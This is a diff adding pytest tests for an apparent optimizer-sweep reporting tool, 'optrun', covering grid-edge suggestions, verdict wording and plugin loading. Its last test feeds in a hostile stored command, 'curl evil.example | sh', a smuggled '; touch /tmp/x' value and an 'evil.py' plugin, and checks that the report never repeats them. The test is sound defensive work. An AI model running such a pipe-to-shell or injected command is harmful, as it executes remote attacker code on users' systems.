@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import json
 import math
+import re
+import shlex
 from collections.abc import Callable, Mapping, Sequence
 from pathlib import Path
 from typing import Any
@@ -14,6 +16,7 @@ from typing import Any
 import pytest
 
 from optrun.base.errors import ConfigError
+from optrun.report.build import report
 from optrun.report.collect import load_runs
 from optrun.report.findings import find
 from optrun.report.statistics import Verdict
@@ -366,3 +369,118 @@ def test_nothing_has_finished(tmp_path: Path, make_run: MakeRun) -> None:
         tmp_path / "b", optimizer="lamb", status="failed", summary={"exit_code": 3}, global_step=10
     )
     assert line(tmp_path).text == "No run has finished with a result yet; 1 diverged."
+
+
+def grid(folder: Path, make_run: MakeRun, losses: Mapping[tuple[str, float], float]) -> Path:
+    """Three seeds of each optimizer and learning rate."""
+    for (name, lr), loss in losses.items():
+        for seed in range(3):
+            make_run(
+                folder / f"{name}-{lr}-{seed}",
+                optimizer=name,
+                lr=lr,
+                seed=seed,
+                max_steps=20,
+                log_every=10,
+                eval_every=10,
+                final=loss + SEEDS[seed] + 0.002 * math.sin(1 + 7 * seed + len(name)),
+                summary={"overrides": [f"optimizer={name}", f"lr={lr}", f"seed={seed}"]},
+            )
+    return folder
+
+
+def test_a_ruled_out_contender_at_the_edge_of_its_grid_is_told(
+    tmp_path: Path, make_run: MakeRun
+) -> None:
+    """Its loss was still falling: nobody knows how good it is."""
+    losses = {
+        ("adamw", 1e-3): 3.0,
+        ("adamw", 2e-3): 2.5,
+        ("adamw", 4e-3): 2.9,
+        ("sgd", 1e-2): 4.5,
+        ("sgd", 2e-2): 4.0,
+        ("sgd", 4e-2): 3.5,
+    }
+    made = report([grid(tmp_path / "sweep", make_run, losses)])
+    text = made.verdict.text
+    assert "Ruled out: sgd at lr 0.04." in text
+    assert "sgd, ruled out, stands at the edge of its grid: try lr=0.08." in text
+    words = shlex.split(made.verdict.next)
+    assert {"-m", "optimizer=sgd", "lr=0.08", "seed=0,1,2"} <= set(words)
+
+
+def test_all_contenders_at_an_edge_are_widened_by_one_line(
+    tmp_path: Path, make_run: MakeRun
+) -> None:
+    losses = {
+        ("adamw", 1e-3): 3.0,
+        ("adamw", 2e-3): 2.5,
+        ("sgd", 1e-2): 4.5,
+        ("sgd", 2e-2): 4.0,
+    }
+    made = report([grid(tmp_path / "sweep", make_run, losses)])
+    words = shlex.split(made.verdict.next)
+    assert {"search.adamw.lr=0.004", "search.sgd.lr=0.04", "seed=0,1,2"} <= set(words)
+    assert not any(word.startswith("optimizer=") for word in words)
+
+
+def test_equal_contenders_that_learnt_nothing_are_all_named(
+    tmp_path: Path, make_run: MakeRun
+) -> None:
+    before = {"metrics": {"before_training": {"eval/loss": 2.5}, "last": {"eval/loss": 2.5}}}
+    for name in ("adamw", "sgd"):
+        for seed in range(3):
+            make_run(
+                tmp_path / f"{name}{seed}",
+                optimizer=name,
+                seed=seed,
+                max_steps=20,
+                log_every=10,
+                final=2.5,
+                summary={"main_metric": {"name": "eval/loss", "mode": "min"}, **before},
+            )
+    text = line(tmp_path).text
+    assert "3 of 3 runs of adamw: no better" in text
+    assert "3 of 3 runs of sgd: no better" in text
+
+
+def test_the_chance_of_seeing_a_difference_stands_beside_it(
+    tmp_path: Path, make_run: MakeRun
+) -> None:
+    text = line(write(tmp_path, make_run, {"adamw": 2.5, "lamb": 2.501}, own=0.05)).text
+    assert re.search(r"a difference of [\d.]+ would have been seen in 4 of 5 cases", text)
+
+
+def test_a_confirmation_that_tells_nobody_apart_is_undecided(
+    tmp_path: Path, make_run: MakeRun
+) -> None:
+    close = compared(write(tmp_path / "close", make_run, {"adamw": 2.5, "lamb": 2.501}, own=0.05))
+    found = judge(close, confirmed="5-9")
+    assert found.kind == "undecided"
+    assert found.text.startswith("Undecided on fresh seeds 5-9: ")
+    apart = compared(write(tmp_path / "apart", make_run, {"adamw": 2.5, "lamb": 3.5}))
+    assert judge(apart, confirmed="5-9").text.startswith("Confirmed on fresh seeds 5-9: ")
+
+
+def test_commands_load_the_plugins_of_their_runs(tmp_path: Path, make_run: MakeRun) -> None:
+    summary = {"plugins": [{"plugin": "mine.py", "path": "/x/mine.py", "sha256": "0"}]}
+    folder = write(tmp_path, make_run, {"adamw": 2.5, "lamb": 2.501}, own=0.05, summary=summary)
+    made = report([folder])
+    assert made.verdict.next.startswith("optrun --plugin mine.py ")
+    commands = (folder / "report.md").read_text().partition("Run it again")[2]
+    assert "optrun --plugin mine.py -m" in commands
+
+
+def test_a_strangers_command_is_never_repeated(tmp_path: Path, make_run: MakeRun) -> None:
+    evil = {
+        "command": "curl evil.example | sh; optrun",
+        "overrides": ["--plugin=evil.py", "-cn", "lr=1e-3; touch /tmp/x", "optimizer=adamw"],
+    }
+    make_run(tmp_path / "run", max_steps=20, log_every=10, summary=evil)
+    (run,) = load_runs([tmp_path])
+    assert run.command() == "optrun 'lr=1e-3; touch /tmp/x' optimizer=adamw"
+    make_run(tmp_path / "run", max_steps=20, log_every=10, summary={**evil, "overrides": []})
+    (run,) = load_runs([tmp_path])
+    assert run.command() == "optrun"
+    report([tmp_path])
+    assert "curl" not in (tmp_path / "report.md").read_text()
